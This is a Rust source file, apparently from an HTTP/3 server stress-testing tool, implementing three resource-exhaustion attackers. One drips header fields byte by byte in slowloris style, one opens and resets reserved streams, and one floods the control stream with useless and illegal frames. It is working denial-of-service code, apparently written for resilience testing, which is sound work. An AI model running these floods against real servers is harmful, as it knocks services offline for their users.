//! Floods of legal HTTP/3: field sections byte by byte, useless streams and frames.

use std::io;

use clearway_quic::connection::Config;
use clearway_quic::stream::StreamId;

use super::sockets::{Sockets, Traffic};
use super::swarm::{Member, Swarm};
use super::wire::{integers, put_varint};
use super::{Attacker, Context, http3};

/// Size of a batch of frames, bytes.
const BATCH: usize = 1000;

/// Sends field sections byte by byte, on as many streams as allowed.
pub(crate) struct DribbledHeaders {
    swarm: Swarm<Vec<StreamId>>,
    connections: usize,
    /// The start of each section, which is sent at once.
    beginning: Vec<u8>,
    sections: u64,
    bytes: u64,
}

/// Size of the last field of a section, which never ends, bytes.
const ENDLESS: usize = 55_000;

impl DribbledHeaders {
    /// A number of connections on which the first `at_once` bytes of the last field are
    /// sent at once.
    pub(crate) fn new(context: &Context, connections: usize, at_once: usize) -> io::Result<Self> {
        let sockets = Sockets::bind(context.number, 0, connections)?;
        let mut beginning = endless_section();
        beginning.resize(beginning.len() + at_once.min(ENDLESS), b'x');
        Ok(Self {
            swarm: Swarm::new(context.server, sockets, Config::default())?,
            connections,
            beginning,
            sections: 0,
            bytes: 0,
        })
    }
}

impl Attacker for DribbledHeaders {
    fn turn(&mut self, packets: u64) {
        self.swarm.keep(self.connections);
        self.swarm.step();
        for _ in 0..packets {
            let Some(handle) = self.swarm.next_ready() else {
                return;
            };
            let Some(member) = self.swarm.get(handle) else {
                return;
            };
            if let Some(id) = member.request(&self.beginning, false) {
                member.state.push(id);
                self.sections += 1;
                self.bytes += self.beginning.len() as u64;
            }
            let Member {
                connection, state, ..
            } = member;
            state.retain(|&id| {
                let open = connection.write(id, b"x").is_ok();
                self.bytes += u64::from(open);
                open
            });
            self.swarm.speak(handle);
        }
    }

    fn traffic(&self) -> Traffic {
        self.swarm.traffic()
    }

    fn held(&self) -> usize {
        self.swarm.established()
    }

    fn note(&self) -> String {
        format!(
            "{} sections, {} bytes; {}",
            self.sections,
            self.bytes,
            self.swarm.closures()
        )
    }
}

/// The start of a HEADERS frame: everything after it is the value of one field.
fn endless_section() -> Vec<u8> {
    let mut section = http3::get_section("/");
    http3::put_literal(&mut section, b"x-slow", &[b'x'; ENDLESS]);
    let mut out = Vec::new();
    put_varint(&mut out, http3::HEADERS);
    put_varint(&mut out, section.len() as u64);
    out.extend_from_slice(&section[..section.len() - ENDLESS]);
    out
}

/// Opens and ends unidirectional streams of reserved types.
pub(crate) struct UselessStreams {
    swarm: Swarm<()>,
    streams: u64,
}

const OPENERS: usize = 16;

impl UselessStreams {
    pub(crate) fn new(context: &Context) -> io::Result<Self> {
        let sockets = Sockets::bind(context.number, 0, OPENERS)?;
        Ok(Self {
            swarm: Swarm::new(context.server, sockets, Config::default())?,
            streams: 0,
        })
    }
}

impl Attacker for UselessStreams {
    fn turn(&mut self, packets: u64) {
        self.swarm.keep(OPENERS);
        self.swarm.step();
        for _ in 0..packets {
            let Some(handle) = self.swarm.next_ready() else {
                return;
            };
            let Some(member) = self.swarm.get(handle) else {
                return;
            };
            let kind = http3::reserved(self.streams);
            let Some(id) = member.announce(kind, b"useless") else {
                continue;
            };
            self.streams += 1;
            // Half of them are finished, the others reset.
            if self.streams.is_multiple_of(2) {
                let _ = member.connection.finish(id);
                self.swarm.speak(handle);
            } else {
                self.swarm.speak(handle);
                if let Some(member) = self.swarm.get(handle) {
                    let _ = member.connection.reset(id, http3::REQUEST_CANCELLED);
                }
                self.swarm.speak(handle);
            }
        }
    }

    fn traffic(&self) -> Traffic {
        self.swarm.traffic()
    }

    fn held(&self) -> usize {
        self.swarm.established()
    }

    fn note(&self) -> String {
        format!("{} streams; {}", self.streams, self.swarm.closures())
    }
}

/// Sends useless frames on the control stream.
pub(crate) struct ControlStreamFrames {
    swarm: Swarm<Repeating>,
    bytes: u64,
}

/// The frames that a connection still has to send.
#[derive(Default)]
struct Repeating {
    batches: u64,
    rest: Vec<u8>,
}

const REPEATERS: usize = 15;

impl ControlStreamFrames {
    pub(crate) fn new(context: &Context) -> io::Result<Self> {
        let sockets = Sockets::bind(context.number, 0, REPEATERS)?;
        Ok(Self {
            swarm: Swarm::new(context.server, sockets, Config::default())?,
            bytes: 0,
        })
    }
}

impl Attacker for ControlStreamFrames {
    fn turn(&mut self, packets: u64) {
        self.swarm.keep(REPEATERS);
        self.swarm.step();
        for _ in 0..packets {
            let Some(handle) = self.swarm.next_ready() else {
                return;
            };
            let Some(member) = self.swarm.get(handle) else {
                return;
            };
            let Some(http3_streams) = member.http3_streams else {
                continue;
            };
            if member.state.rest.is_empty() {
                member.state.batches += 1;
                member.state.rest = frames(handle.0, member.state.batches);
            }
            let rest = std::mem::take(&mut member.state.rest);
            let written = member.write(http3_streams.control, &rest);
            member.state.rest = rest[written..].to_vec();
            self.bytes += written as u64;
            self.swarm.speak(handle);
        }
    }

    fn traffic(&self) -> Traffic {
        self.swarm.traffic()
    }

    fn held(&self) -> usize {
        self.swarm.established()
    }

    fn note(&self) -> String {
        format!("{} bytes of frames; {}", self.bytes, self.swarm.closures())
    }
}

/// A batch of frames, all of one type, which the connection's handle chooses.
fn frames(connection: u64, batch: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(BATCH + 16);
    let mut n = batch * BATCH as u64;
    while out.len() < BATCH {
        n += 1;
        match connection % 5 {
            0 => http3::put_frame(&mut out, http3::reserved(n), &[]),
            1 => {
                // For requests that were not sent yet (RFC 9218 §7.2).
                let mut update = integers(&[4 * (n % 100)]);
                update.extend_from_slice(b"u=1");
                http3::put_frame(&mut out, http3::PRIORITY_UPDATE, &update);
            }
            2 => http3::put_frame(&mut out, http3::MAX_PUSH_ID, &integers(&[n])),
            3 => http3::put_frame(&mut out, http3::GOAWAY, &integers(&[0])),
            // A second SETTINGS frame is illegal (RFC 9114 §7.2.4).
            _ => http3::put_frame(&mut out, http3::SETTINGS, &[]),
        }
    }
    out
}
